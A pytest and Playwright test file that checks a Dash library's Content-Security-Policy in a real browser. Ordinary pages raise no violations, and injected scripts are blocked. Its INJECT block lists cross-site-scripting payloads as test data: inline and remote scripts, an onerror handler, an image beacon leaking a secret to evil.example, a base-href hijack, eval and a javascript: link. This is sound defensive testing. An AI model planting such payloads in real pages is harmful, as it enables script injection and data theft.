"""The Content-Security-Policy in a real browser: normal pages do not notice it, injected scripts do."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

import dash_devices
from dash_devices import dcc, html
from dash_devices.dependencies import Input, Output

Serve = Callable[..., Any]
WATCH = """
window.violations = [];
const note = (event) => violations.push(event.violatedDirective + " " + event.blockedURI);
document.addEventListener("securitypolicyviolation", note);
"""
IMAGE = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
TABLE = [{"a": 1, "b": "x"}, {"a": 2, "b": "y"}]


def _everything() -> list[Any]:
    """One of each kind of component that loads or draws something."""
    figure = {
        "data": [{"y": [1, 3, 2]}, {"type": "heatmap", "z": [[1, 2], [3, 4]], "xaxis": "x2"}],
        "layout": {"height": 300},
    }
    return [
        dcc.Graph(id="graph", figure=figure),
        dcc.Markdown("$$x^2$$ and `code`\n```python\nprint(1)\n```", mathjax=True),
        dcc.Dropdown(["a", "b"], "a", id="menu"),
        dcc.DatePickerSingle(date="2026-01-01"),
        dcc.Slider(0, 10, value=3, id="slider"),
        dcc.Tabs([dcc.Tab(html.P("first"), label="one"), dcc.Tab(label="two")]),
        dcc.Upload(html.Button("upload")),
        dcc.Loading(html.P("loaded")),
        html.Img(src=IMAGE, style={"width": "10px"}),
        dcc.Download(id="download"),
        html.Button("get", id="get"),
        html.P(id="length"),
    ]


def _app(**options: Any) -> dash_devices.Dash:
    app = dash_devices.Dash(__name__, **options)
    app.layout = html.Div(_everything())
    app.share("slider", "value")
    app.clientside_callback("(x) => `${x} long`", Output("length", "children"), Input("slider", "value"))

    @app.callback(Output("download", "data"), [Input("get", "n_clicks")], prevent_initial_call=True)
    def get(clicks: int) -> Any:
        return {"content": "text", "filename": "a.txt"}

    return app


@pytest.mark.parametrize("debug", [False, True])
def test_normal_pages_do_not_notice_it(serve: Serve, tab: Any, browser: Any, debug: bool) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    server = serve(_app(), debug=debug, use_reloader=False, dev_tools_hot_reload=False) if debug else serve(_app())
    page = tab(server.url, context=context, allow_errors="Warning: |ERR_" if debug else False)
    page.wait_for_function("() => document.querySelector('#graph .js-plotly-plot .scatterlayer path')")
    page.wait_for_function("() => document.querySelector('mjx-container')")
    page.wait_for_function("() => document.querySelector('.hljs')")
    server.app.push_mods({"slider": {"value": 7}})
    expect(page.locator("#length")).to_have_text("7 long")
    with page.expect_download() as download:
        page.click("#get")
    assert download.value.suggested_filename == "a.txt"
    page.locator(".modebar-btn").first.dispatch_event("click")
    assert page.evaluate("violations") == []
    context.close()


def test_scripts_that_get_into_a_page_do_not_run(serve: Serve, tab: Any, browser: Any) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = tab(serve(_app()).url, context=context, allow_errors=True)
    page.evaluate(INJECT)
    page.wait_for_function("() => violations.length >= 8")
    assert page.evaluate("window.ran") is None
    said = {line.split()[0] for line in page.evaluate("violations")}
    assert {"script-src", "script-src-elem", "script-src-attr", "img-src", "connect-src", "base-uri"} <= said
    context.close()


INJECT = """
() => {
  const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
  add("<script>window.ran = 1</script>");
  add("<script src='https://evil.example/x.js'></script>");
  add("<img src='x' onerror='window.ran = 2'>");
  add("<img src='https://evil.example/leak?secret'>");
  add("<base href='https://evil.example/'>");
  fetch("https://evil.example/").catch(() => 0);
  setTimeout(() => { try { eval("window.ran = 3"); } catch (error) { void error; } });  // Playwright's own code may
  const link = document.createElement("a");
  link.href = "javascript:window.ran=4";
  document.body.append(link);
  link.click();
}
"""


@pytest.mark.parametrize("allowed", [False, True])
def test_webgl_traces_need_to_be_asked_for(serve: Serve, tab: Any, browser: Any, allowed: bool) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    app = dash_devices.Dash(__name__, csp={"script-src": ["'unsafe-eval'"]} if allowed else True)
    app.layout = dcc.Graph(id="graph", figure={"data": [{"type": "scattergl", "x": [1, 2], "y": [1, 2]}]})
    page = tab(serve(app).url, context=context, allow_errors=True)
    page.wait_for_selector("#graph canvas" if allowed else "#graph .no-webgl", state="attached")
    assert page.evaluate("[...new Set(violations)]") == ([] if allowed else ["script-src eval"])
    context.close()
